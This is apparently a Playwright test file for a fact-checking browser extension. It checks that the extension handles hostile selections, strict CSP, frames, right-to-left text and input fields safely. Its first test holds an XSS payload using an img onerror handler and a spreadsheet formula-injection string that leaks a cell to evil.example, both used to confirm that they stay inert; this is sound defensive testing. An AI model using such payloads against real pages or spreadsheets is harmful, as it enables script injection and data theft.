import { expect, test } from './support/fixtures';
import { starterKnowledgeReady } from './support/knowledge';
import { ClaimPage, RedditThreadPage, SidePanel } from './support/pages';

// Each test is a fresh profile: its first check is not what these tests are about.
test.beforeEach(({ context, extensionId }) => starterKnowledgeReady(context, extensionId));

/** Hostile text, a strict CSP, frames, right-to-left scripts, and selections that must not be checked. */

const IMG = `<img src=x onerror="window.__pwned='img'"> Garlic cures COVID-19, "trust me", really.`;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Masks cause disease")';

test('markup and formulas in the selected text stay text: in the page, the side panel and both exports', async ({
  context,
  server,
  extensionId,
}) => {
  const page = await context.newPage();
  await page.goto(server.url('hostile.html'));
  const hostile = new ClaimPage(page);

  await hostile.checkSelection(IMG);
  await hostile.checkSelection(FORMULA);
  expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
  // The overlay holds only ClaimLens's own elements: no element was made from page text.
  expect(await hostile.overlay().locator('img, script, a').count()).toBe(0);

  const panel = await SidePanel.open(context, extensionId);
  await panel.tab('History');
  await expect(panel.historyRows()).toHaveCount(2);
  await panel.open(IMG);
  await expect(panel.checkedText()).toHaveText(IMG);
  await expect(panel.checkDetails().getByRole('link')).toHaveText(
    '<img src=x onerror=alert(1)> Health "forum", tricks & traps',
  );
  expect(await panel.page.locator('img, script:not([src])').count()).toBe(0);
  expect(await panel.page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();

  await panel.tab('History');
  const json = await panel.exportHistory('JSON');
  expect(json.name).toMatch(/^claimlens-history-\d{4}-\d{2}-\d{2}\.json$/);
  const parsed = JSON.parse(json.text) as {
    format: string;
    checks: { text: string; page: { title: string }; verdict: string; subscribers?: unknown; requestIds?: unknown }[];
  };
  expect(parsed.format).toBe('claimlens-history');
  expect(parsed.checks.map((c) => c.text).sort()).toEqual([FORMULA, IMG].sort());
  expect(
    parsed.checks.every((c) => c.verdict === 'Unverified' && c.subscribers === undefined && c.requestIds === undefined),
  ).toBe(true);

  const csv = await panel.exportHistory('CSV');
  const lines = csv.text.trimEnd().split('\r\n');
  expect(lines[0]).toBe(
    'id,createdAt,status,verdict,confidence,path,text,reason,explanation,pageUrl,pageTitle,site,sources,question,answer,statement',
  );
  expect(lines).toHaveLength(3);
  // The formula cannot run in a spreadsheet (a leading quote) and quotes are doubled inside a quoted cell.
  expect(csv.text).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Masks cause disease"")",`);
  expect(csv.text).toContain(
    `,"<img src=x onerror=""window.__pwned='img'""> Garlic cures COVID-19, ""trust me"", really.",`,
  );
});

test('a page with a strict CSP and Trusted Types still gets a styled pill and a verdict badge', async ({
  context,
  server,
  extensionId,
}) => {
  const page = await context.newPage();
  const violations: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy|Trusted Type/i.test(m.text())) violations.push(m.text());
  });
  const response = await page.goto(server.url('news.csp.html'));
  expect(response?.headers()['content-security-policy']).toContain("require-trusted-types-for 'script'");
  const news = new ClaimPage(page);
  const claim = 'The flu vaccine cannot give you the flu because it contains no live virus.';

  await news.select(claim);
  await expect.poll(() => news.checkButton().isVisible()).toBe(true);
  // The overlay's styles are adopted stylesheets, which the page's style-src does not block.
  expect(await news.checkButton().style('background-color')).toBe('rgb(29, 78, 216)');
  await news.checkButton().click();
  const badge = news.verdictBadge();
  await expect.poll(() => badge.accessibleName()).toBe('Verdict: Unverified');
  await news.expectBadgeBeside(badge, claim);
  expect(await news.highlighted('claimlens-checked')).toEqual([claim]);
  expect(violations).toEqual([]);

  const panel = await SidePanel.open(context, extensionId);
  await panel.tab('History');
  await expect(panel.row(claim)).toBeVisible();
});

test('claims inside same-origin and cross-origin frames are checked in their frame', async ({
  context,
  server,
  extensionId,
}) => {
  const page = await context.newPage();
  await page.goto(server.url('iframe.html'));
  const same = page.frames().find((f) => f.url().includes('frame-post.html?n=1'))!;
  await expect.poll(() => page.frames().some((f) => f.url().startsWith('http://localhost:'))).toBe(true);
  const cross = page.frames().find((f) => f.url().startsWith('http://localhost:'))!;

  const inSame = new ClaimPage(same);
  const sameClaim = 'Smoking causes lung cancer, decades of research show.';
  const sameBadge = await inSame.checkSelection(sameClaim);
  await expect.poll(() => sameBadge.accessibleName()).toBe('Verdict: Unverified');
  await inSame.expectBadgeBeside(sameBadge, sameClaim);

  const inCross = new ClaimPage(cross);
  const crossClaim = 'Handwashing with soap removes most germs from the skin.';
  await inCross.select(crossClaim);
  await expect.poll(() => inCross.checkButton().isVisible()).toBe(true);
  await inCross.checkButton().click();
  await expect.poll(() => inCross.verdictBadge().accessibleName()).toBe('Verdict: Unverified');
  // Each frame shows its own badge only.
  await expect.poll(() => inSame.badges().count()).toBe(1);
  await expect.poll(() => new ClaimPage(page).badges().count()).toBe(0);

  const panel = await SidePanel.open(context, extensionId);
  await panel.tab('History');
  await expect(panel.row(sameClaim)).toContainText('127.0.0.1');
  await expect(panel.row(crossClaim)).toContainText('localhost');
});

test('right-to-left text: the pill stays on screen and the badge sits at the end of the line, on its left', async ({
  context,
  server,
  extensionId,
}) => {
  const page = await context.newPage();
  await page.goto(server.url('rtl.html'));
  const rtl = new ClaimPage(page);
  const arabic = 'الثوم يعالج كوفيد-19 خلال ثلاثة أيام';

  await rtl.select(arabic);
  expect((await rtl.selectedText()).trim()).toBe(arabic);
  await expect.poll(() => rtl.checkButton().isVisible()).toBe(true);
  const pill = await rtl.boxOf(rtl.pill());
  expect(pill.left).toBeGreaterThanOrEqual(0);
  expect(pill.right).toBeLessThanOrEqual(page.viewportSize()!.width);
  await rtl.checkButton().click();
  const badge = rtl.verdictBadge();
  await expect.poll(() => badge.accessibleName()).toBe('Verdict: Unverified');
  await rtl.expectBadgeBeside(badge, arabic);

  const hebrew = 'חיסון נגד שפעת מפחית את הסיכון לאשפוז.';
  await rtl.checkSelection(hebrew);

  const panel = await SidePanel.open(context, extensionId);
  await panel.tab('History');
  await expect(panel.row(arabic)).toBeVisible();
  await panel.open(hebrew);
  await expect(panel.checkedText()).toHaveText(hebrew);
});

test('a selection over 5,000 characters is refused in the pill, with its length and what to do', async ({
  context,
  server,
}) => {
  const page = await context.newPage();
  await page.goto(server.url('reddit-thread.html'));
  const thread = new RedditThreadPage(page);
  await thread.selectLongComment();
  const length = (await thread.selectedText()).replace(/\s+/g, ' ').trim().length;
  expect(length).toBeGreaterThan(5000);
  const refusal = thread.pill().getByRole('alert');
  await expect
    .poll(() => refusal.text())
    .toBe(
      `This selection is ${length.toLocaleString('en-US')} characters; ClaimLens splits up to 5,000 characters into claims. Select a shorter passage (a few paragraphs), or raise the limit in Settings → On pages.`,
    );
  await expect.poll(() => thread.checkButton().count()).toBe(0);
  await thread.pill().getByRole('button', { name: 'Dismiss' }).click();
  await expect.poll(() => thread.pill().count()).toBe(0);
});

test('password fields, text fields and empty or whitespace selections never show the pill', async ({
  context,
  server,
}) => {
  const page = await context.newPage();
  await page.goto(server.url('reddit-thread.html'));
  const thread = new RedditThreadPage(page);

  for (const field of ['Password', 'Username', 'Reply']) {
    const input = page.getByLabel(field, { exact: true });
    await input.click();
    // A collapsed caret first: pressing on selected text would start a drag-and-drop instead.
    await page.keyboard.press('End');
    const box = await thread.boxOf(input);
    await page.mouse.move(box.left + 4, box.top + 10);
    await page.mouse.down();
    await page.mouse.move(box.right - 4, box.top + 10, { steps: 6 });
    await page.mouse.up();
    expect(
      await input.evaluate((el: HTMLInputElement) => (el.selectionEnd ?? 0) - (el.selectionStart ?? 0)),
      field,
    ).toBeGreaterThan(5);
    await expect.poll(() => thread.pill().count()).toBe(0);
    // Keyboard selection in the field shows nothing either.
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.press('Shift+ArrowLeft');
    await expect.poll(() => thread.pill().count()).toBe(0);
  }

  // Whitespace only: from the end of one paragraph to the start of the next.
  await page.goto(server.url('article.html'));
  const article = new ClaimPage(page);
  const p1 = await article.boxOf(page.locator('#p1'));
  const p2 = await article.boxOf(page.locator('#p2'));
  await page.mouse.move(p1.right - 1, (p1.top + p1.bottom) / 2);
  await page.mouse.down();
  await page.mouse.move(p2.left - 1, (p2.top + p2.bottom) / 2, { steps: 4 });
  await page.mouse.up();
  expect((await article.selectedText()).trim()).toBe('');
  await expect.poll(() => article.pill().count()).toBe(0);
});
